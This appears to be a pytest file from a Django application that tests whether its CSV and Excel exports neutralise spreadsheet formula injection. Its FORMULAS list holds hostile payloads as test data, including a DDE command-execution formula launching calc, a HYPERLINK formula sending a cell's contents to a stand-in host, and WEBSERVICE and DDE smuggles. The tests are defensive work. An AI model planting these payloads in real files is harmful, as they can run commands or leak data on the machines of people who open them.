"""Every table that leaves Peritus, filled with texts that a spreadsheet would run."""

import csv
import json
from io import StringIO
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
import xlsxwriter
from django.urls import reverse

from peritus.accounts.models import Role
from peritus.catalogue.cells import as_it_was
from peritus.catalogue.packs import FreezeView, FrozenAnswer
from peritus.catalogue.registry import pack_named, pack_names
from peritus.engagements.models import Engagement, Lot
from peritus.file_audits.audits import FINDINGS, WORKBOOK
from peritus.file_audits.columns import Wanted
from peritus.file_audits.judgments import ReadingRules
from peritus.intake.models import ImportRun
from peritus.intake.queries import reject_file
from peritus.intake.reading import rows_of
from peritus.web.urls import urlpatterns
from tests.factories.accounts import uid
from tests.factories.engagements import START, engagement
from tests.unit.file_audits.scene import begun, rows_of_sheet
from tests.unit.web.conftest import whole_engagement

STARTS = tuple("=+-@\t\r\n＝＋－＠")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\ufeff=1+1", "'=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"look")', "=WEBSERVICE(A1)",
    "x;=1+1", "x\t=1+1", "x|=1+1", 'x",=1+1', "x\n=1+1", '=1+1");DDE("cmd"',
)  # fmt: skip
PACK_WRITERS = [
    (name, writer.file_name) for name in pack_names() for writer in pack_named(name).writers
]
ADDRESSES = [each.name for each in urlpatterns if str(each.pattern).endswith((".csv", ".xlsx"))]


def running_cells(text):
    """Return the cells of a CSV that run, whatever the program parts them at; numbers do not."""
    rows = (csv.reader(StringIO(text, newline=""), delimiter=each) for each in ",;\t")
    return [cell for each in rows for row in each for cell in row if cell.startswith(STARTS)]


def formulas_in(path):
    """Return how many formulas the sheets of a workbook hold (ECMA-376, 18.3.1.40: ``f``)."""
    with ZipFile(path) as parts:
        sheets = [ET.fromstring(parts.read(name)) for name in parts.namelist() if "/sheet" in name]
    assert sheets
    return sum(1 for sheet in sheets for cell in sheet.iter() if cell.tag.endswith("}f"))


def frozen(text):
    """Return a decision with a text wherever a text may stand."""
    return FrozenAnswer(
        item_key=text, item_id="1", title=text, question=text, answer=text, rule=text,
        fields={column: text for name in pack_names() for column in pack_named(name).items.columns},
        judgments=((text, text, text),), audited=text,
    )  # fmt: skip


@pytest.mark.parametrize(("pack", "file_name"), PACK_WRITERS)
def test_no_file_of_a_pack_holds_a_formula(pack, file_name):
    writer = next(each for each in pack_named(pack).writers if each.file_name == file_name)

    for text in FORMULAS:
        view = FreezeView(text, text, text, 1, text, text, (frozen(text),), (text,))
        written = writer.write(view).decode()
        cells = [cell for row in csv.reader(StringIO(written, newline="")) for cell in row]
        assert running_cells(written) == []
        assert text in map(as_it_was, cells)


def test_packs_write_files_that_were_looked_at():
    assert {name for name, _ in PACK_WRITERS} >= {"licence_compliance"}


@pytest.mark.django_db
@pytest.mark.parametrize("address", ADDRESSES)
def test_no_table_of_a_page_holds_a_formula(client, address):
    scene = whole_engagement(code="-1-1")
    Engagement.objects.update(title="=1+1")
    Lot.objects.update(title="=1+1")
    client.force_login(scene.people[Role.MANAGER])
    thing = scene.lot if "/lots/" in reverse(address, args=[scene.lot.uid]) else scene.engagement

    table = client.get(reverse(address, args=[thing.uid]))

    assert table.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert len(table.text.splitlines()) > 2
    assert running_cells(table.text) == []


@pytest.mark.django_db
def test_rejected_rows_hold_no_formula_and_come_back_as_they_were_sent():
    there = engagement()
    rejects = [[n, text, {"key": text, "=name": text}] for n, text in enumerate(FORMULAS, start=2)]
    run = ImportRun.objects.create(
        uid=uid(), organisation=there.organisation, engagement=there, imported_at=START,
        file_name="a.csv", sha256="0" * 64, accepted=0, unchanged=0, rejected=len(rejects),
        rejects=rejects,
    )  # fmt: skip

    content = reject_file(run)

    assert running_cells(content.decode("utf-8-sig")) == []
    told = [dict(row.values) for row in rows_of(content, "a.csv.rejects.csv")]
    assert told == [{"row": str(n), "reason": text, **values} for n, text, values in rejects]


def test_no_cell_of_the_workbooks_of_a_file_is_a_formula(tmp_path):
    said = ("=yes", "-no", "=yes")
    rows = [
        {"item": f"{text} {n}", "expert": who, "answer": answer, "@text": text}
        for n, text in enumerate(FORMULAS)
        for who, answer in zip(("@a", "+b", "=c"), said, strict=True)
    ]
    path = tmp_path / "=1+1.jsonl"
    path.write_text("\n".join(map(json.dumps, [*rows, {"item": "=1", "expert": "\ud800"}])))

    folder = begun(path, rules=ReadingRules(Wanted(shown=("@text",)))).folder

    audit = rows_of_sheet(folder / WORKBOOK, "Audit")
    assert (formulas_in(folder / WORKBOOK), formulas_in(folder / FINDINGS)) == (0, 0)
    assert audit[0] == ["No.", "Item", "@text", "Answer", "Notes"]
    assert {cells[2] for cells in audit[1:]} < {*FORMULAS}
    assert rows_of_sheet(folder / FINDINGS, "Experts")[1][0] in {"@a", "+b", "=c"}


def test_a_formula_in_a_workbook_would_be_found(tmp_path):
    with xlsxwriter.Workbook(tmp_path / "f.xlsx") as book:
        book.add_worksheet().write(0, 0, "=1+1")

    assert formulas_in(tmp_path / "f.xlsx") == 1
